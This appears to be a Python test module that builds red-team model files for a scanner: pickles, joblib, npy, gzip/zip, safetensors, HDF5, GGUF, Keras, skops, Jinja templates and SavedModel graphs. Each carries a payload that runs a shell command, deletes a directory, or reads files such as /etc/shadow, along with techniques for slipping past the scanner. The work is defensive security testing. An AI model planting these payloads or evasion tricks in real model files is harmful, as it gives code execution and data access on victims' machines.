"""Round five: a held-out set written against the scanner as it stands, each hostile sample proved
against the real loader (``oracle_round5.py`` runs it in a throwaway child process).

Families:

* **library classes with a load-time hook** — scipy's distribution classes run
  ``exec(self._parse_arg_template)`` in ``rv_generic.__setstate__``; rebuilt like any saved
  instance (``NEWOBJ`` + ``BUILD``, or a skops ``ObjectNode``) they are judged like a user's model
  class;
* **re-exported callables** — ``xgboost.sklearn.Booster`` and ``lightgbm.sklearn.Booster`` are the
  boosters under a module whose CamelCase classes are allowlisted: called, they read any file;
  a skops ``ConstructorFromReduceNode`` calls ``numpy.memmap`` with the file's arguments;
* **parsers stricter than the loader** — Python-2 ``.npy`` headers (``1L``) that numpy filters,
  zero padding between gzip members, joblib inline arrays whose dtype, shape or BUILD state the
  analyser cannot place (and a repeated ``shape`` key it reads first-wins), plus the spellings
  it already handles (bz2/gzip multi-stream, zip members compressed with bzip2/lzma);
* **file references** — a joblib ``NDArrayWrapper`` whose ``filename`` leaves the model folder
  (joblib ``np.load(allow_pickle=True)``s it);
* **payloads in a field of another format** — a zip in a safetensors tensor, in ``.npy`` array
  data, in an HDF5 dataset (``zipfile`` finds the end record wherever the host format ends); a
  ``torch.save`` pickle as base64 in a Keras ``TorchModuleWrapper`` config;
* **template keys built from data** — dunder names reached through a namespace attribute, a
  ``%`` format, a macro, a loop over a dict;
* **graph ops that read files** — SavedModel table initialisers, SQL datasets and caches naming a
  path outside the model.

Each hostile sample's ``ORACLES`` entry says how it was proved (see ``oracle_round5.py``); the
loaders that are not installed here (Keras, TensorFlow, PyTables) are proved by the loader source
cited in ``ROUND5.md``. Benign samples are real files written by the libraries themselves.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.scan.redteam import build as rt
from tests.scan.redteam.build import Case, put, shell, zip_bytes

_REEXPORT = ("names.judge allowlists CamelCase names of {mod}; Booster there is {real} "
             "re-exported, and VALUE_ONLY (call-only value types) lists only {real}, so a call "
             "with a model_file path is judged a safe constructor: no finding")
_LIBRARY_HOOK = ("a CamelCase class of an installed library (not the standard library, not a "
                 "denylisted module) rebuilt by NEWOBJ + BUILD with a plain dict takes the "
                 "user-model-class path (MW-PKL-003 medium); {cls}'s {hook}")
_PY2_HEADER = ("numpy_file.parse_header only tries ast.literal_eval; numpy retries 1.0/2.0 "
               "headers through format._filter_header (drops Python 2 'L' suffixes) and loads the "
               "object array, while the scanner reports MW-NPY-002 medium and never analyses the "
               "pickle")
_JOBLIB_DTYPE = ("joblib_arrays sizes a NumpyArrayWrapper dtype only from a str spelling or "
                 "numpy's own pickled dtype state; numpy.dtype(b'<f8') or a field list ends the "
                 "analysis (MW-PKL-008 medium), the what-if plain reading stops on the raw array "
                 "bytes, and the os.system call after the array is never seen")
_JOBLIB_SHAPE = ("joblib_arrays needs the wrapper's shape as a tuple of Python ints; joblib "
                 "only takes len() and reshape() of it (a list, numpy ints), so the analysis "
                 "stops with MW-PKL-008 medium before the call after the array")
_ZIP_IN_DATA = ("the {fmt} scanner claims the file and never looks for a zip end record inside "
                "its data; zipfile (pandas.read_pickle('x.zip'), skops, Keras) finds the archive "
                "from the end record and unpickles its member: no finding")
_SCIPY_FP = ("a real pickled frozen scipy distribution: its *_gen class is rebuilt by NEWOBJ + "
             "BUILD (MW-PKL-003 high: a lowercase class name is not 'spelt like a class') with "
             "__doc__ in the state (MW-PKL-007 high): a benign file fails the default policy")

GAPS: dict[str, str] = {
}
"""Sample id → the scanner gap it shows today (measured; the test is a strict xfail)."""

ORACLES: dict[str, str] = {}
"""Sample id → how the real loader was shown to run the payload: a loader key of
``oracle_round5.LOADERS`` (run in a child process), or ``cite:`` and the loader source."""


def evil(canary: Path) -> bytes:
    """``os.system('touch <canary>')`` as protocol 2 pickle."""
    return rt.dumps(rt.Call(__import__("os").system, shell(canary)), protocol=2)


# -- pickle: library classes, re-exports, opcode spellings --------------------------------------

_TEMPLATE = ("import os\nos.system({cmd!r})\n"
             "def _parse_args(*a, **k):\n    return a, 0, 1\n"
             "def _parse_args_stats(*a, **k):\n    return a, 0, 1, 'mv'\n"
             "def _parse_args_rvs(*a, **k):\n    return a, 0, 1, None\n")


def _rv_state(canary: Path) -> bytes:
    """The attribute dict of a scipy distribution whose argument-parser template runs a command
    (``rv_generic.__setstate__`` calls ``_attach_methods`` → ``exec(self._parse_arg_template)``)."""
    return (rt.EMPTY_DICT + rt.s("_parse_arg_template") + rt.s(_TEMPLATE.format(cmd=shell(canary)))
            + rt.SETITEM + rt.s("numargs") + rt.i(0) + rt.SETITEM + rt.s("shapes") + rt.NONE
            + rt.SETITEM + rt.s("a") + rt.i(0) + rt.SETITEM + rt.s("b") + rt.i(1) + rt.SETITEM)


def _scipy_norm_gen(canary: Path) -> bytes:
    return (rt.proto(2) + rt.g("scipy.stats._continuous_distns", "norm_gen") + rt.EMPTY_TUPLE
            + rt.NEWOBJ + _rv_state(canary) + rt.BUILD + rt.STOP)


def _scipy_frozen_wrapper(canary: Path) -> bytes:
    """``rv_continuous_frozen`` (allowlisted by its ``_frozen`` suffix) holding the distribution,
    as ``pickle.dumps(scipy.stats.norm(0, 1))`` writes it."""
    dist = (rt.g("scipy.stats._continuous_distns", "uniform_gen") + rt.EMPTY_TUPLE + rt.NEWOBJ
            + _rv_state(canary) + rt.BUILD)
    return (rt.proto(2) + rt.g("scipy.stats._distn_infrastructure", "rv_continuous_frozen")
            + rt.EMPTY_TUPLE + rt.NEWOBJ + rt.EMPTY_DICT + rt.s("args") + rt.EMPTY_TUPLE
            + rt.SETITEM + rt.s("kwds") + rt.EMPTY_DICT + rt.SETITEM + rt.s("dist") + dist
            + rt.SETITEM + rt.BUILD + rt.STOP)


def _numpy_datasource_rmtree(canary: Path) -> bytes:
    """``numpy.lib._datasource.DataSource`` rebuilt like a saved instance (NEWOBJ + BUILD) with
    ``_istmpdest`` set: its ``__del__`` runs ``shutil.rmtree(self._destpath)`` when the object is
    collected — here a directory next to the canary (created by the build), at the latest when the
    loading process exits."""
    victim = Path(f"{canary}.d")
    victim.mkdir(parents=True, exist_ok=True)
    (victim / "keep.txt").write_text("precious\n")
    return (rt.proto(2) + rt.g("numpy.lib._datasource", "DataSource") + rt.EMPTY_TUPLE
            + rt.NEWOBJ + rt.EMPTY_DICT + rt.s("_destpath") + rt.s(str(victim)) + rt.SETITEM
            + rt.s("_istmpdest") + b"\x88" + rt.SETITEM + rt.BUILD + rt.STOP)


def _fsspec_opener(canary: Path) -> bytes:
    """``fsspec.implementations.local.LocalFileOpener`` rebuilt by NEWOBJ + BUILD: its
    ``__setstate__`` opens ``state['path']`` (mode 'r+', read-write) while loading."""
    return (rt.proto(2) + rt.g("fsspec.implementations.local", "LocalFileOpener")
            + rt.EMPTY_TUPLE + rt.NEWOBJ + rt.EMPTY_DICT + rt.s("path") + rt.s(str(canary))
            + rt.SETITEM + rt.s("mode") + rt.s("r+") + rt.SETITEM + rt.s("autocommit") + b"\x88"
            + rt.SETITEM + rt.s("compression") + rt.NONE + rt.SETITEM + rt.s("loc") + rt.i(0)
            + rt.SETITEM + rt.s("fs") + rt.NONE + rt.SETITEM + rt.BUILD + rt.STOP)


def _xgb_reexport(canary: Path) -> bytes:
    """``xgboost.sklearn.Booster(None, None, path)``: xgboost.core.Booster under the sklearn
    wrapper module, called — it reads ``path`` as a model (any file the process can read)."""
    return rt.proto(2) + rt.call(rt.g("xgboost.sklearn", "Booster"), rt.NONE, rt.NONE,
                                 rt.s(str(canary))) + rt.STOP


def _lgbm_reexport(canary: Path) -> bytes:
    """``lightgbm.sklearn.Booster(None, None, path)``: lightgbm.basic.Booster re-exported,
    called with ``model_file``."""
    return rt.proto(2) + rt.call(rt.g("lightgbm.sklearn", "Booster"), rt.NONE, rt.NONE,
                                 rt.s(str(canary))) + rt.STOP


def _p0_call(module: str, name: str, arg: str) -> bytes:
    return rt.g(module, name) + rt.MARK + b"V" + arg.encode("raw_unicode_escape") + b"\n" \
        + rt.TUPLE + rt.REDUCE + rt.STOP


def _p0_memo_underscore(canary: Path) -> bytes:
    """Protocol 0 with the callable stored by ``PUT`` and fetched by ``GET`` under memo keys
    spelled ``1_0`` / `` 10`` (``PyLong_FromString`` accepts underscores and blanks)."""
    return (rt.g("os", "system") + b"p1_0\n" + b"0" + b"g 10\n" + rt.MARK + b"V"
            + shell(canary).encode() + b"\n" + rt.TUPLE + rt.REDUCE + rt.STOP)


def _proto_switch(canary: Path) -> bytes:
    """A stream that declares protocol 4, then protocol 2 again before a Python 2 name: the
    unpickler's ``proto`` is the last ``PROTO`` read, so ``commands.getoutput`` is renamed to
    ``subprocess.getoutput`` (fix_imports)."""
    return (rt.proto(4) + rt.NONE + rt.POP + rt.proto(2) + rt.g("commands", "getoutput")
            + rt.tup(rt.s(shell(canary))) + rt.REDUCE + rt.STOP)


def _binstring_stack_global(canary: Path) -> bytes:
    return (b"T" + struct.pack("<i", 2) + b"os" + b"U\x06system" + b"\x93"
            + rt.tup(b"U" + bytes([len(shell(canary))]) + shell(canary).encode()) + rt.REDUCE
            + rt.STOP)


def _nested_torch_bytes_newtrue(canary: Path) -> bytes:
    """``_load_from_bytes`` of bytes that start with NEWTRUE, POP (no PROTO, nothing like a
    pickle's usual first byte): torch.load's legacy reader unpickles them (then complains about
    the magic number, after the call ran)."""
    inner = b"\x880" + rt.call(rt.g("os", "system"), rt.s(shell(canary))) + rt.STOP
    return rt.proto(2) + rt.call(rt.g("torch.storage", "_load_from_bytes"),
                                 b"B" + struct.pack("<I", len(inner)) + inner) + rt.STOP


def _nested_torch_bytes(canary: Path) -> bytes:
    """``torch.storage._load_from_bytes`` (torch's own idiom for storages pickled by value) on a
    legacy torch stream whose third pickle (system info) runs the payload."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    inner = magic + pickle.dumps(1001, protocol=2) + evil(canary)
    return rt.proto(2) + rt.call(rt.g("torch.storage", "_load_from_bytes"),
                                 b"C" + bytes([len(inner)]) + inner if len(inner) < 256 else
                                 b"B" + struct.pack("<I", len(inner)) + inner) + rt.STOP


_WRAPPER = (rt.g("joblib.numpy_pickle", "NumpyArrayWrapper") + rt.EMPTY_TUPLE + rt.NEWOBJ)


def _wrapper_items(dtype: bytes, shape: bytes) -> bytes:
    """The SETITEMs of a NumpyArrayWrapper state as joblib 1.2+ writes it."""
    return (rt.s("subclass") + rt.g("numpy", "ndarray") + rt.SETITEM + rt.s("shape") + shape
            + rt.SETITEM + rt.s("order") + rt.s("C") + rt.SETITEM + rt.s("dtype") + dtype
            + rt.SETITEM + rt.s("allow_mmap") + b"\x89" + rt.SETITEM
            + rt.s("numpy_array_alignment_bytes") + rt.i(16) + rt.SETITEM)


_F8 = rt.call(rt.g("numpy", "dtype"), rt.s("<f8"))
_TWO = rt.tup(rt.i(2))


def _joblib_array_then_call(build: bytes, canary: Path, *, skipped: int = 16) -> bytes:
    """``[<NumpyArrayWrapper built by build>, os.system(...)]`` as joblib writes a list holding
    an inline array: the BUILD, one padding-length byte, the padding, 16 array bytes (0xff: read
    as opcodes, the way a plain ``pickle.load`` would, they stop at once), then the call.
    ``skipped`` > 16 pads the stream so that skipping that many array bytes lands on a clean
    ``APPEND, STOP`` after the call."""
    head = rt.proto(4) + b"]" + _WRAPPER + build
    pad = -(len(head) + 1) % 16
    call = b"a" + rt.call(rt.g("os", "system"), rt.s(shell(canary))) + b"a" + rt.STOP
    tail = b"" if skipped == 16 else bytes(skipped - 16 - len(call)) + b"a" + rt.STOP
    return head + bytes([pad]) + bytes(pad) + b"\xff" * 16 + call + tail


def _joblib_inline_array(dtype: bytes, canary: Path) -> bytes:
    """The wrapper's dtype is ``dtype``."""
    return _joblib_array_then_call(rt.EMPTY_DICT + _wrapper_items(dtype, _TWO) + rt.BUILD, canary)


def _joblib_shape(shape: bytes, canary: Path) -> bytes:
    """The wrapper's shape is ``shape`` (joblib only needs ``len()`` and ``reshape()`` of it)."""
    return _joblib_array_then_call(rt.EMPTY_DICT + _wrapper_items(_F8, shape) + rt.BUILD, canary)


def _joblib_slot_state(canary: Path) -> bytes:
    """BUILD with ``(None, state)``: pickle's ``load_build`` sets the second dict's items with
    setattr (slot state), so the wrapper gets the same attributes."""
    return _joblib_array_then_call(rt.NONE + rt.EMPTY_DICT + _wrapper_items(_F8, _TWO)
                                   + b"\x86" + rt.BUILD, canary)


def _joblib_duplicate_shape(canary: Path) -> bytes:
    """The state sets ``shape`` twice: (100,) then (2,). The unpickler's dict keeps the last
    (16 array bytes, then the call); reading the first, 800 bytes are skipped — over the call."""
    state = rt.EMPTY_DICT + rt.s("shape") + rt.tup(rt.i(100)) + rt.SETITEM
    return _joblib_array_then_call(state + _wrapper_items(_F8, _TWO) + rt.BUILD, canary,
                                   skipped=800)


def _joblib_compat_wrapper_outside(folder: Path, canary: Path) -> Path:
    """A joblib pickle holding a pre-0.10 ``NDArrayWrapper`` whose ``filename`` is
    ``../elsewhere/payload.npy``: joblib's ``load_build`` calls ``NDArrayWrapper.read``, which runs
    ``np.load(os.path.join(dirname, filename), allow_pickle=True)`` — an object array outside the
    model folder (the scanned tree)."""
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = rt.Call(__import__("os").system, shell(canary))
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    put(folder, "elsewhere/payload.npy", buf.getvalue())
    state = (rt.EMPTY_DICT + rt.s("filename") + rt.s("../elsewhere/payload.npy") + rt.SETITEM
             + rt.s("subclass") + rt.g("numpy", "ndarray") + rt.SETITEM + rt.s("allow_mmap")
             + b"\x89" + rt.SETITEM)
    put(folder, "model/model.joblib",
        rt.proto(2) + rt.g("joblib.numpy_pickle_compat", "NDArrayWrapper") + rt.EMPTY_TUPLE
        + rt.NEWOBJ + state + rt.BUILD + rt.STOP)
    return folder / "model"


# -- numpy -------------------------------------------------------------------------------------

def _npy_raw(header: str, payload: bytes, version: int = 1) -> bytes:
    size_fmt, prefix = ("<H", 10) if version == 1 else ("<I", 12)
    header += " " * (63 - (len(header) + prefix) % 64) + "\n"
    return (b"\x93NUMPY" + bytes([version, 0]) + struct.pack(size_fmt, len(header))
            + header.encode("latin1") + payload)


def _object_list_pickle(canary: Path) -> bytes:
    return rt.proto(2) + b"]" + rt.call(rt.g("os", "system"), rt.s(shell(canary))) + b"a" + rt.STOP


def _npy_py2_long(canary: Path, version: int = 1) -> bytes:
    """A Python 2 header: ``(1L,)``. ``ast.literal_eval`` refuses it; numpy retries versions 1.0
    and 2.0 headers through ``_filter_header`` (drops the ``L``) and loads the object array."""
    return _npy_raw("{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }",
                    _object_list_pickle(canary), version)


def _npy_descr_tuple(canary: Path) -> bytes:
    """descr given as a ``(base, shape)`` tuple: ``descr_to_dtype`` builds a sub-array of
    objects."""
    return _npy_raw("{'descr': ('|O', (1,)), 'fortran_order': False, 'shape': (1,), }",
                    _object_list_pickle(canary))


def _npz_method(method: int, canary: Path) -> bytes:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = rt.Call(__import__("os").system, shell(canary))
    buf, weights = io.BytesIO(), io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    np.save(weights, np.ones(3))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(zipfile.ZipInfo("w.npy", date_time=rt.DATE), weights.getvalue())
        info = zipfile.ZipInfo("meta.npy", date_time=rt.DATE)
        info.compress_type = method
        zf.writestr(info, buf.getvalue())
    return out.getvalue()


# -- joblib and compressed streams ---------------------------------------------------------------

def _bz2_two_streams(canary: Path) -> bytes:
    return bz2.compress(b"") + bz2.compress(evil(canary))


def _gzip_all_header_fields(canary: Path) -> bytes:
    """A gzip member with FHCRC, FEXTRA, FNAME and FCOMMENT set (joblib's zlib wbits=31 and
    ``gzip.GzipFile`` both skip them)."""
    payload = evil(canary)
    head = bytearray(b"\x1f\x8b\x08\x1e" + bytes(4) + b"\x00\xff")
    head += struct.pack("<H", 6) + b"AB\x02\x00zz" + b"model.pkl\x00" + b"exported\x00"
    head[3] |= 0x02
    head += struct.pack("<H", zlib.crc32(bytes(head)) & 0xFFFF)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = comp.compress(payload) + comp.flush()
    return bytes(head) + body + struct.pack("<II", zlib.crc32(payload), len(payload))


def _gzip_two_members(canary: Path) -> bytes:
    return gzip.compress(b"", mtime=0) + gzip.compress(evil(canary), mtime=0)


def _gzip_zero_padded(canary: Path) -> bytes:
    """An empty gzip member, 4 KiB of NUL padding, then the pickle: ``gzip.GzipFile`` skips zero
    padding between members (pandas ``read_pickle('x.pkl.gz')``)."""
    return gzip.compress(b"", mtime=0) + bytes(4096) + gzip.compress(evil(canary), mtime=0)


def _gzip_split(canary: Path) -> bytes:
    """The pickle split across two gzip members (``gzip.GzipFile`` reads them as one stream)."""
    data = evil(canary)
    return gzip.compress(data[:7], mtime=0) + gzip.compress(data[7:], mtime=0)


def _xz_x86_filter(canary: Path) -> bytes:
    """An .xz stream whose filter chain is x86 BCJ + LZMA2 (``lzma.LZMAFile`` decodes it)."""
    import lzma

    return lzma.compress(evil(canary), filters=[{"id": lzma.FILTER_X86},
                                                {"id": lzma.FILTER_LZMA2}])


def _zip_member_method(method: int, canary: Path) -> bytes:
    """A one-member zip (``pandas.read_pickle('x.zip')`` unpickles its only member) compressed
    with bzip2 or lzma, which ``zipfile`` decodes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        info = zipfile.ZipInfo("model.pkl", date_time=rt.DATE)
        info.compress_type = method
        zf.writestr(info, evil(canary))
    return out.getvalue()


def _tar_gz(canary: Path) -> bytes:
    from tests.scan.redteam.cases_formats import tar_bytes

    return tar_bytes([("model.pkl", evil(canary))], "w:gz")


# -- a zip inside a field of another format -----------------------------------------------------

def _evil_zip(canary: Path) -> bytes:
    return zip_bytes([("model.pkl", evil(canary))])


def _safetensors_holding_zip(canary: Path) -> bytes:
    """A valid safetensors file whose last U8 tensor is a zip of a pickle: ``zipfile`` finds the
    end record at the end of the file (``pandas.read_pickle('x.zip')``, skops, Keras)."""
    inner = _evil_zip(canary)
    header = {"__metadata__": {"format": "pt"},
              "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
              "blob": {"dtype": "U8", "shape": [len(inner)], "data_offsets": [8, 8 + len(inner)]}}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + struct.pack("<2f", 1.0, 2.0) + inner


def _npy_holding_zip(canary: Path) -> bytes:
    import numpy as np

    inner = _evil_zip(canary)
    buf = io.BytesIO()
    np.save(buf, np.frombuffer(inner, dtype=np.uint8))
    return buf.getvalue()


def _hdf5_holding_zip(canary: Path) -> bytes:
    """An HDF5 file (h5py) whose last dataset holds a zip; HDF5 metadata may follow it (zipfile
    searches the last 64 KiB for the end record)."""
    import h5py
    import numpy as np

    inner = _evil_zip(canary)
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_dataset("w", data=np.ones(4))
        f.create_dataset("blob", data=np.frombuffer(inner, dtype=np.uint8))
    return buf.getvalue()


def _gguf_holding_zip(folder: Path, canary: Path) -> Path:
    """A GGUF model (gguf.GGUFWriter) whose last tensor's bytes are a zip of a pickle."""
    import gguf
    import numpy as np

    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "model.zip"
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_name("redteam-tiny")
    writer.add_tensor("token_embd.weight", np.arange(32, dtype=np.float32).reshape(8, 4))
    writer.add_tensor("blob", np.frombuffer(_evil_zip(canary), dtype=np.int8).copy())
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def _pickle_in_hdf5_user_block(canary: Path) -> bytes:
    """A valid HDF5 file (h5py) whose 512-byte user block starts with a pickle: ``pickle.load``
    and torch's legacy reader read from byte 0."""
    from tests.scan.redteam.cases_round4_formats import hdf5_with_user_block

    return hdf5_with_user_block(evil(canary), 512)


def _pickle_then_zip(canary: Path) -> bytes:
    """A benign pickle (what ``pickle.load`` reads) with a zip appended (what ``zipfile`` reads)."""
    from tests.scan.redteam.cases_round4_formats import zip_after

    return zip_after(pickle.dumps({"epoch": 3}, protocol=4), [("model.pkl", evil(canary))])


def _text_then_zip(canary: Path) -> bytes:
    """A model card with a zip appended."""
    from tests.scan.redteam.cases_round4_formats import zip_after

    return zip_after(b"# Model card\n\nA tiny classifier.\n" * 20, [("model.pkl", evil(canary))])


# -- Keras ---------------------------------------------------------------------------------------

def _torch_module_wrapper(canary: Path) -> bytes:
    """A ``.keras`` whose ``TorchModuleWrapper`` layer carries ``module`` as base64 of a
    ``torch.save`` pickle: ``from_config`` runs ``torch.load(buffer, weights_only=False)``."""
    from tests.scan.redteam.cases_formats import _sequential, keras_file

    blob = base64.b64encode(rt.torch_zip(evil(canary))).decode()
    layer: dict[str, object] = {
        "module": "keras.layers", "class_name": "TorchModuleWrapper",
        "config": {"name": "torch_module_wrapper", "trainable": True, "dtype": "float32",
                   "module": blob, "output_shape": None},
        "registered_name": "TorchModuleWrapper"}
    return keras_file(_sequential("s", [layer]))


def _torch_module_wrapper_h5(canary: Path) -> bytes:
    """The same layer in a legacy Keras ``.h5`` (``model_config`` attribute)."""
    import h5py

    from tests.scan.redteam.cases_formats import _sequential

    blob = base64.b64encode(rt.torch_zip(evil(canary))).decode()
    config = _sequential("s", [{"module": "keras.layers", "class_name": "TorchModuleWrapper",
                                "config": {"name": "tmw", "trainable": True, "module": blob},
                                "registered_name": "TorchModuleWrapper"}])
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "3.6.0"
        f.attrs["backend"] = "torch"
        f.create_group("model_weights")
    return buf.getvalue()


def _skops_booster_reduce(canary: Path) -> bytes:
    """A ``ConstructorFromReduceNode`` of ``xgboost.core.Booster`` (allowlisted only to be
    rebuilt, never called): skops calls ``Booster(None, None, path)``, which reads the file."""
    return _skops({"__class__": "Booster", "__module__": "xgboost.core",
                   "__loader__": "ConstructorFromReduceNode",
                   "content": {"__class__": "tuple", "__module__": "builtins",
                               "__loader__": "TupleNode",
                               "content": [_json_node(None), _json_node(None),
                                           _json_node(str(canary))]}})


# -- HDF5 (PyTables) -----------------------------------------------------------------------------

def _pytables_attr_nul_padded(canary: Path) -> bytes:
    """A pandas/PyTables table group whose ``non_index_axes`` attribute is a fixed-length string
    of 256 bytes: the pickle and NUL padding (numpy strips trailing NULs, PyTables then sees a
    bytes_ ending in '.' and unpickles it)."""
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        grp = f.create_group("df")
        grp.attrs["pandas_type"] = np.bytes_(b"frame_table")
        grp.attrs["pandas_version"] = np.bytes_(b"0.15.2")
        table = grp.create_group("table")
        table.attrs.create("non_index_axes", np.array(evil(canary), dtype="S256"))
    return buf.getvalue()


# -- chat templates ------------------------------------------------------------------------------

_TEMPLATES: dict[str, tuple[str, str]] = {
    "namespace-attr": ("{% set ns = namespace(k='__cla' ~ 'ss__') %}{{ ()|attr(ns.k) }}",
                       "dunder name kept in a namespace() attribute"),
    "namespace-assign": ("{% set ns = namespace() %}{% set ns.k = '__cla' ~ 'ss__' %}"
                         "{{ ()|attr(ns.k) }}", "dunder name assigned to ns.k ({% set ns.k %})"),
    "percent-format": ("{{ ()|attr('%s%s' % ('__cla', 'ss__')) }}",
                       "dunder name built with the % operator"),
    "macro-return": ("{% macro k() %}__class__{% endmacro %}{{ ()|attr(k()|trim) }}",
                     "dunder name returned by a macro"),
    "dict-loop": ("{% for k in {'__class__': 1} %}{{ ()|attr(k) }}{% endfor %}",
                  "dunder name from a loop over a dict literal's keys"),
    "dictsort-loop": ("{% for k, v in {'__class__': 1}|dictsort %}{{ ()|attr(k) }}{% endfor %}",
                      "dunder name from a loop over |dictsort pairs"),
    "split-index": ("{{ ()|attr('x.__class__.y'.split('.')[1]) }}",
                    "dunder name cut out with str.split"),
    "partition": ("{{ ()|attr('a__class__b'.partition('a')[2].rpartition('b')[0]) }}",
                  "dunder name cut out with partition/rpartition"),
    "tuple-index": ("{{ ()|attr(('x', '__cla' ~ 'ss__')[1]) }}",
                    "dunder name taken from a tuple literal by index"),
    "call-block": ("{% macro m() %}{{ ()|attr(caller()|trim) }}{% endmacro %}"
                   "{% call m() %}__class__{% endcall %}", "dunder name passed as a call block"),
}


def _template_file(key: str, _: Path) -> bytes:
    return json.dumps({"bos_token": "<s>", "eos_token": "</s>",
                       "chat_template": _TEMPLATES[key][0]}).encode()


def _gguf_template(key: str, folder: Path, canary: Path) -> Path:
    from tests.scan.redteam.cases_formats import gguf_file

    return gguf_file(folder / f"{key}.gguf", {"tokenizer.chat_template": _TEMPLATES[key][0]})


# -- ONNX ----------------------------------------------------------------------------------------

def _onnx_constant_external(folder: Path, canary: Path) -> Path:
    """A Constant node whose ``value`` tensor keeps its data in ``weights.bin`` beside the model,
    and ``weights.bin`` is a link to a file outside the model folder (``onnx.load`` refuses a
    ``../`` location but follows the link)."""
    from onnx import TensorProto, helper

    tensor = TensorProto(name="c", data_type=TensorProto.FLOAT, dims=[1])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "weights.bin"), ("offset", "0"), ("length", "4")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    node = helper.make_node("Constant", [], ["y"], value=tensor)
    graph = helper.make_graph([node], "g", [], [helper.make_tensor_value_info(
        "y", TensorProto.FLOAT, [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    put(folder, "secret/weights.bin", struct.pack("<f", 1.5))
    put(folder, "model/model.onnx", model.SerializeToString())
    (folder / "model" / "weights.bin").symlink_to("../secret/weights.bin")
    return folder / "model"


# -- SavedModel ----------------------------------------------------------------------------------

def _saved_model_with(folder: Path, key: str, nodes: list[bytes]) -> Path:
    from tests.scan.corpus import proto as p

    put(folder, f"{key}/saved_model.pb", p.saved_model(nodes))
    (folder / key / "variables").mkdir()
    return folder / key


def _sm_nodes(op: str, path: str, extra: tuple[str, ...] = (),
              attrs: dict[str, bytes] | None = None) -> list[bytes]:
    from tests.scan.corpus import proto as p

    const = p.node_def("path", "Const", attrs={"value": p.attr_value_str(path.encode())})
    table = p.node_def("table", "HashTableV2", attrs={"key_dtype": p.attr_value_type(7),
                                                      "value_dtype": p.attr_value_type(9)})
    return [table, const, p.node_def("op", op, (*extra, "path"), attrs or {})]


_SAVEDMODEL: dict[str, tuple[str, Callable[[], list[bytes]]]] = {
    "init-table-from-textfile": (
        "InitializeTableFromTextFileV2 reading /etc/shadow into a lookup table (table "
        "initialisers run when tf.saved_model.load restores the model)",
        lambda: _sm_nodes("InitializeTableFromTextFileV2", "/etc/shadow", ("table",))),
    "sql-dataset": (
        "SqlDataset running an sqlite query that ATTACHes (creates) a database file",
        lambda: _sm_nodes("SqlDataset", "ATTACH DATABASE '/tmp/owned.db' AS x", ())),
    "cache-dataset-file": (
        "CacheDatasetV2 whose filename is a constant outside the model (writes cache files)",
        lambda: _sm_nodes("CacheDatasetV2", "/root/.cache/evil", ("table",))),
    "save-dataset-v2": (
        "SaveDatasetV2 writing a dataset under a constant path outside the model",
        lambda: _sm_nodes("SaveDatasetV2", "/home/user/.config/autostart", ("table",))),
    "restore-v2-absolute": (
        "RestoreV2 reading tensors from a constant absolute checkpoint prefix of another model",
        lambda: _sm_nodes("RestoreV2", "/home/user/other-model/variables/variables")),
}


# -- skops ---------------------------------------------------------------------------------------

def _json_node(value: object) -> dict[str, object]:
    """A JSON leaf as skops writes every one (class ``str``, the value as JSON text)."""
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True}


def _skops(root: dict[str, object]) -> bytes:
    schema = {**root, "protocol": 2, "_skops_version": "0.16.0"}
    return zip_bytes([("schema.json", json.dumps(schema).encode())], zipfile.ZIP_DEFLATED)


def _skops_rv_object(canary: Path) -> bytes:
    """An ``ObjectNode`` of ``scipy.stats._continuous_distns.norm_gen``: skops runs
    ``cls.__new__(cls)`` then ``instance.__setstate__(attrs)`` → ``exec(_parse_arg_template)``."""
    attrs = {"_parse_arg_template": _TEMPLATE.format(cmd=shell(canary)), "numargs": 0,
             "shapes": None, "a": 0, "b": 1}
    content = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
               "content": {k: _json_node(v) for k, v in attrs.items()},
               "key_types": {"__class__": "list", "__module__": "builtins",
                             "__loader__": "ListNode",
                             "content": [{"__class__": "str", "__module__": "builtins",
                                          "__loader__": "TypeNode"} for _ in attrs]}}
    return _skops({"__class__": "norm_gen", "__module__": "scipy.stats._continuous_distns",
                   "__loader__": "ObjectNode", "content": content})


def _skops_memmap_reduce(canary: Path) -> bytes:
    """A ``ConstructorFromReduceNode`` of ``numpy.memmap`` (allowlisted as a reconstruction
    target): skops calls ``numpy.memmap(path, 'uint8', 'w+', 0, [8])`` — it creates the file."""
    args = [_json_node(str(canary)), _json_node("uint8"), _json_node("w+"), _json_node(0),
            {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
             "content": [_json_node(8)]}]
    return _skops({"__class__": "memmap", "__module__": "numpy",
                   "__loader__": "ConstructorFromReduceNode",
                   "content": {"__class__": "tuple", "__module__": "builtins",
                               "__loader__": "TupleNode", "content": args}})


# -- symlinks ------------------------------------------------------------------------------------

def _symlinked_weights(folder: Path, canary: Path) -> Path:
    """A model folder whose ``pytorch_model.bin`` is a relative link to a pickle kept outside it
